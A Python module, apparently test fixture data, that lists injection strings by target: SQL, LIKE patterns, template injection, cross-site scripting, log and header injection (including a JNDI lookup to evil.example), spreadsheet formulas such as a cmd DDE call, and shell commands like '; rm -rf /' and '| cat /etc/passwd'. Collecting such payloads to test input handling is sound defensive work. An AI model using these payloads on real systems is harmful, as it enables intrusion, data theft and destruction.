"""Texts that some reader would take for orders: the database, a template, the browser, a log, a spreadsheet, a shell."""

from __future__ import annotations

SQL = {
    "or one is one": "' OR '1'='1",
    "a comment behind": "admin'--",
    "a second statement": "1; DROP TABLE visit;--",
    "a union": "' UNION SELECT email, password_hash FROM account--",
    "a blind wait": "1' AND (SELECT 1 FROM pg_sleep(5))--",
    "a heavy blob": "1 AND randomblob(1000000000)",
    "a cast": "1::int; SELECT version()",
    "stacked quotes": "''''\"\"\"\"``",
    "a backslash before a quote": "\\' OR 1=1 --",
    "a dollar quote": "$$; DELETE FROM programme; $$",
    "a multi-byte quote": "\u00bf' OR 1=1 /*",
    "an attached file": "'; ATTACH DATABASE '/tmp/x.db' AS x;--",
    "a named parameter": ":name @name ?1 $1 %(name)s",
}
# Each is a word that is looked for: its signs stand for themselves, so that nothing is found by them.
LIKE = {
    "any text": "%",
    "any letter": "_",
    "two of any": "%%",
    "a pattern around": "%アサヒ%",
    "any letter within": "架空_サヒ",
    "an escape at the end": "\\",
    "an escaped sign": "\\%",
    "a class": "[ア-ン]",
    "a star": "*",
    "a question mark": "?",
    "a prefix of full text": "架空*",
    "words of full text": "架空 NOT アサヒ",
    "near, of full text": "NEAR(架空 アサヒ)",
    "a column of full text": "title:架空",
    "an open quote": '"架空',
    "brackets": "((((((((",
    "carets and hats": "^架空",
    "a regular expression that never ends": "(a+)+$" * 20,
}
TEMPLATES = {
    "a sum": "{{ 7 * 7 }}",
    "the configuration": "{{ config.SECRET_KEY }}",
    "a statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "a class of an object": "{{ ''.__class__.__mro__ }}",
    "an attribute in a format": "{0.__class__.__init__.__globals__}",
    "of a shell": "${7*7} $(id) `id`",
    "of Ruby": "#{7*7} <%= 7*7 %>",
    "a comment": "{# hidden #}",
    "a place of a translation": "%(count)s件 %(__class__)s",
}
BROWSER = {
    "a script": "<script>alert(1)</script>",
    "a picture that fails": '"><img src=x onerror=alert(1)>',
    "a drawing": "'><svg/onload=alert(1)>",
    "an end of a text field": "</textarea><script>alert(1)</script>",
    "an end of a script": "</script><script>alert(1)</script>",
    "an end of a title": "</title><script>alert(1)</script>",
    "an open comment": "<!-- --!><script>",
    "an end of a section": "]]><script>alert(1)</script>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'>",
    "a link that runs": "<a href=javascript:alert(1)>見積書</a>",
    "an address that runs": "javascript:alert(1)//",
    "data that runs": "data:text/html,<script>alert(1)</script>",
    "another base": "<base href=//evil.example/>",
    "another address": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "another form": "</form><form action=//evil.example><input name=password>",
    "a handler in an attribute": '" autofocus onfocus=alert(1) x="',
    "a handler without quotes": "x onmouseover=alert(1)",
    "a style": "<style>*{background:url(//evil.example)}</style>",
    "upper case and blanks": "<ScRiPt\n>alert(1)</sCrIpT >",
    "an attribute of a framework": "<div x-init=alert(1) ng-app v-html='1' data-chart-figure>",
    "of another character set": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "escaped once already": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a plan of mathematics": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a template of HTML": "<template><slot name=x></template>",
}
LOGS = {
    "a second line": "x\r\nINFO owner@example.jp signed in",
    "an encoded second line": "x%0d%0aINFO signed in",
    "an order to a terminal": "\x1b]0;title\x07\x1b[2J",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a place of logging": "%s %(message)s {message} %n",
}
HEADERS = {
    "a cookie": "a\r\nSet-Cookie: tracker=stolen",
    "a second answer": "a\r\n\r\n<script>alert(1)</script>",
    "an encoded cookie": "a%0d%0aSet-Cookie:%20a=b",
    "a quote in a name": 'a"; filename="b.html',
    "a character above the table": "a\u560d\u560aSet-Cookie: a=b",
}
CELLS = {
    "a sum of cells": "=1+1",
    "a link": '=HYPERLINK("https://evil.example","見積")',
    "a program": "=cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at": "@SUM(1+1)",
    "full-width equals": "＝1+1",
    "a bar": "|cmd",
}
SHELL = {
    "a second order": "; rm -rf /",
    "a pipe": "| cat /etc/passwd",
    "an option": "--version",
}
GROUPS = {
    "SQL": SQL,
    "LIKE": LIKE,
    "templates": TEMPLATES,
    "browser": BROWSER,
    "logs": LOGS,
    "headers": HEADERS,
    "cells": CELLS,
    "shell": SHELL,
}
INJECTIONS = {f"{group}: {name}": value for group, values in GROUPS.items() for name, value in values.items()}
